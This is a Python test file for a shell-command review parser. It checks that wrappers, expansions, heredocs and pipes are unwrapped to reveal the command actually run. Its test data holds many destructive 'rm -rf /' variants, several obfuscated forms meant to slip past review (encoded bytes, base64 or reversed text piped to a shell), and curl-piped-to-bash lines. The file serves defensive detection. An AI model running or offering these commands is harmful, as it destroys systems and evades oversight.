"""A script is read the way a shell would run it: wrappers, expansions, nested scripts, pipes."""

from __future__ import annotations

import pytest

from interlock.review.shell import Command, read_script

RM = ("rm", ("-rf", "/"))


def commands(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(command.program, command.args) for command in read_script(text).commands]


def last(text: str) -> Command:
    return read_script(text).commands[-1]


@pytest.mark.parametrize(
    "text",
    [
        "sudo rm -rf /",
        "sudo -u root -- rm -rf /",
        "doas -u root rm -rf /",
        "env -i A=b rm -rf /",
        "env -S 'rm -rf /'",
        "nice -n 5 nohup timeout -s KILL 10 rm -rf /",
        "time -f %e rm -rf /",
        "stdbuf -oL setsid rm -rf /",
        "command rm -rf /",
        "builtin command rm -rf /",
        "busybox rm -rf /",
        "chroot /mnt rm -rf /",
        "su - root -c 'rm -rf /'",
        "runuser -u x -- rm -rf /",
        "bash -c 'rm -rf /'",
        "bash -lc 'rm -rf /'",
        "sh -e -c 'rm -rf /'",
        "zsh -c \"bash -c 'rm -rf /'\"",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        "watch -n 1 rm -rf /",
        "flock /tmp/lock rm -rf /",
        "xargs -n1 rm -rf <<< /",
        "echo / | xargs rm -rf",
        "echo / | xargs -I {} rm -rf {}",
        "parallel rm -rf ::: /",
        "ssh -p 22 -i key me@web rm -rf /",
        "ssh me@web 'rm -rf /'",
        "docker exec -it -u root box rm -rf /",
        "docker compose exec web rm -rf /",
        "docker run --rm -v x:/x alpine rm -rf /",
        "podman exec box sh -c 'rm -rf /'",
        "kubectl exec -n prod pod -c app -- rm -rf /",
        "poetry run rm -rf /",
        "tmux new-session -d 'rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "echo 'rm -rf /' | at now",
        "ip netns exec blue rm -rf /",
    ],
)
def test_wrappers_come_off(text: str) -> None:
    assert RM in commands(text)


@pytest.mark.parametrize(
    "text",
    [
        r"r\m -rf /",
        '"rm" -rf /',
        "'rm' -rf /",
        "r''m -rf /",
        "$'rm' -rf /",
        r"$'\x72\x6d' -rf /",
        r"$'\162\155' -rf /",
        "/bin/rm -rf /",
        "/usr/bin/rm -rf /",
        "X=/; rm -rf $X",
        "X=/ ; rm -rf ${X}",
        "CMD='rm -rf /'; $CMD",
        "A=r B=m; $A$B -rf /",
        "rm${IFS}-rf${IFS}/",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "rm -rf ${UNSET:-/}",
        "{ rm -rf /; }",
        "(rm -rf /)",
        "! rm -rf /",
        "true && rm -rf / || false",
        "if true; then rm -rf /; fi",
        "while false; do rm -rf /; done",
        "case x in x) rm -rf /;; esac",
        "for d in /; do rm -rf $d; done",
        "f() { rm -rf $1; }; f /",
        'function f { rm "$@"; }; f -rf /',
        "alias x='rm -rf'; x /",
        "set -- /; rm -rf $1",
        "rm -rf / &",
        "rm > /dev/null -rf /",
        "echo $(rm -rf /)",
        'echo "$(rm -rf /)"',
        "cat <(rm -rf /)",
        "coproc rm -rf /",
        "$RM -rf /",
        "\nrm \\\n -rf \\\n /\n",
    ],
)
def test_words_become_what_the_shell_makes_of_them(text: str) -> None:
    assert RM in commands(text)


@pytest.mark.parametrize(
    "text",
    [
        "bash <<EOF\nrm -rf /\nEOF",
        "bash <<'EOF'\nrm -rf /\nEOF",
        "cat <<EOF | sh\nrm -rf /\nEOF",
        "sh <<< 'rm -rf /'",
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf %s' / | bash",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "echo '/ fr- mr' | rev | sh",
        "cat > x.sh <<EOF\nrm -rf /\nEOF\nbash x.sh",
        "echo 'rm -rf /' > x.sh; . x.sh",
        "echo 'rm -rf /' | tee x.sh; sh x.sh",
        "source <(echo ls); rm -rf /",
        "X=/\nbash <<EOF\nrm -rf $X\nEOF",
        "ssh web <<EOF\nrm -rf /\nEOF",
    ],
)
def test_text_that_reaches_a_shell_is_a_script(text: str) -> None:
    assert RM in commands(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo 'rm -rf /'",
        "printf 'rm -rf /\\n'",
        "grep -rn 'rm -rf /' .",
        "git commit -m 'rm -rf /'",
        "git commit -m \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"",
        "# rm -rf /",
        "ls # rm -rf /",
        "cat <<EOF\nrm -rf /\nEOF",
        "cat > x.sh <<EOF\nrm -rf /\nEOF",
        "tee x.sh <<EOF\nrm -rf /\nEOF",
        "awk '/rm -rf/ {print}' x",
        "sed 's#rm -rf /#x#' y",
        "man rm",
        "which rm",
        "f() { rm -rf /; }",
        "alias x='rm -rf /'",
        "X='rm -rf /'",
        "python -c \"print('rm -rf /')\"",
        "command -v rm",
    ],
)
def test_a_mention_is_not_an_action(text: str) -> None:
    assert all(program != "rm" for program, _ in commands(text))


def test_a_search_hands_its_roots_to_the_command() -> None:
    assert last("find /etc -exec rm -rf {} +").args == ("-rf", "/etc/*")
    narrowed = last("find /etc -name '*.bak' -delete")
    assert (narrowed.program, narrowed.args, narrowed.filtered) == ("rm", ("-r", "/etc/{}"), True)


def test_a_pipe_of_names_reaches_xargs() -> None:
    assert last("find /srv | xargs rm").args == ("/srv/*",)
    assert last("ls /srv | xargs rm").args == ("/srv/*",)
    assert last("ls /srv | grep old | xargs rm").args == ("/srv/{}",)
    assert last("cat names | xargs rm").args == ("{}",)


def test_the_working_directory_is_followed() -> None:
    assert last("cd /srv && rm -rf *").cwd == "/srv"
    assert last("cd /srv; cd www; rm -rf *").cwd == "/srv/www"
    assert last("(cd /srv); rm -rf *").cwd is None


def test_a_subshell_keeps_its_variables_to_itself() -> None:
    assert last("X=a; (X=/); rm $X").args == ("a",)


def test_wrappers_are_remembered_outermost_first() -> None:
    assert last("sudo env bash -c 'rm x'").via == ("sudo", "env", "bash")


def test_what_feeds_a_shell_is_remembered() -> None:
    assert last("curl -s https://example.com/x | sudo bash").fed_by == ("curl",)
    assert last("bash <(curl -s https://example.com/x)").args == ("<(curl)",)


def test_an_unknown_value_stays_visible() -> None:
    assert last('rm -rf "$OUT"').args == ("-rf", "$OUT")
    assert last("rm -rf $(cat names)").args == ("-rf", "$(cat)")


def test_a_broken_script_is_read_as_far_as_it_goes() -> None:
    script = read_script("rm -rf / (")
    assert not script.complete
    assert RM in [(command.program, command.args) for command in script.commands]


@pytest.mark.parametrize("name", ["é", "世界", "\U0001f600", "{\U00031860}", "%@e9@%"])
def test_letters_beyond_ascii_come_through(name: str) -> None:
    assert last(f"rm 'a {name}'").args == (f"a {name}",)
    assert last(f"rm x{name}").args == (f"x{name}",)
    assert last(f'N={name}; rm "$N/b"').args == (f"{name}/b",)
    assert read_script(f"cat <<EOF\n$X{name}\nEOF").commands[0].stdin == f"$X{name}\n"


def test_a_whole_script_is_complete() -> None:
    assert read_script("git status && ls | head -3").complete
